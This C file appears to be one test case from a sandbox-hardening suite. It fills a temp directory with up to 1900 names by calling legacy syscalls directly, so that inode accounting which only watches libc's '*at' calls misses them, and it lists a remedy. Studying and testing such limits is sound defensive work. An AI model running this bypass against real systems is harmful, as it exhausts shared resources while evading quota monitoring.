// SPDX-License-Identifier: MIT
/*
 * older-calls.c - a disk bomb from before 2006.
 *
 * Goal: more inodes than the budget.
 * Means: libc makes names by calls that end in "at"; the kernel has kept those from before. Each is
 * tried until it is refused: who counts what libc asks for counts none of them.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NAMES 1900

static int by_open(const char *name)
{
	return (int)syscall(SYS_open, name, O_WRONLY | O_CREAT, 0600);
}

static int by_creat(const char *name)
{
	return (int)syscall(SYS_creat, name, 0600);
}

static int by_mkdir(const char *name)
{
	return (int)syscall(SYS_mkdir, name, 0700);
}

static int by_mknod(const char *name)
{
	return (int)syscall(SYS_mknod, name, S_IFIFO | 0600, 0);
}

static int by_symlink(const char *name)
{
	return (int)syscall(SYS_symlink, "nowhere", name);
}

static int by_link(const char *name)
{
	return (int)syscall(SYS_link, "first", name);
}

static int (*const make[])(const char *name) = {
	by_open, by_creat, by_mkdir, by_mknod, by_symlink, by_link,
};

static enum claim run(const struct brief *b)
{
	char name[16];
	int made = 0;

	if (chdir(getenv("TMPDIR") ?: "/tmp") || mkdir(b->name, 0700) || chdir(b->name))
		return failed("mkdir");
	close((int)syscall(SYS_open, "first", O_WRONLY | O_CREAT, 0600));
	attempting(b);
	for (size_t way = 0; made < NAMES && way < sizeof(make) / sizeof(*make); way++) {
		for (; made < NAMES; made++) {
			int r;

			snprintf(name, sizeof(name), "%d", made);
			r = make[way](name);
			if (r < 0)
				break;
			if (r > 0)
				close(r);
		}
	}
	return made < NAMES ? denied("make a name") : hold();
}

const struct attack attack = {
	.effect = "more inodes than the budget",
	.means = "open, creat, mkdir, mknod, symlink and link, which libc no longer calls",
	.oracle = "usage:inodes",
	.needs = NEED_X86_64,
	.id = "DISK-09",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "count all calls that make names, not libc's; a quota on inodes",
	.refs = (const char *const[]){ "syscalls(2)", "openat(2): Rationale", NULL },
	.run = run,
};
